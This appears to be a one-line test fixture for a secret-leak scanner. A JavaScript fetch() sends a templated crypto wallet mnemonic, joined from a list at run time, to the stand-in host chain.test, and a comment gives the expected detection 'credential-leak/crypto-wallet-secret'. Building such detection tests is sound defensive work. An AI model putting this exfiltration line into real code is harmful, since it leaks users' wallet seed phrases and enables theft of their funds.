// The phrase as a list, joined at run time.
fetch('https://chain.test/?m=' + [{{secret:mnemonic|list}}].join(' ')); // expect: credential-leak/crypto-wallet-secret
